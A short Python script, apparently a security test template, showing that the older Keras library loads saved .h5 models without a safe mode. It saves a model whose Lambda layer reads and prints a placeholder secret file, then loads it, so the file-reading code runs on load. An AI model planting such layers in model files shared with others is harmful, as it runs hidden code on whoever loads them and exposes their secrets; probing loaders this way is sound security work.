"""The reader of the older Keras, which has no safe mode at all."""
import os
os.environ["TF_USE_LEGACY_KERAS"] = "1"
import tf_keras
model = tf_keras.Sequential([tf_keras.layers.Lambda(lambda x: print(open("@SECRET_FILE@").read()) or x, input_shape=(1,))])
model.save("bomb.h5")
del model
tf_keras.models.load_model("bomb.h5")
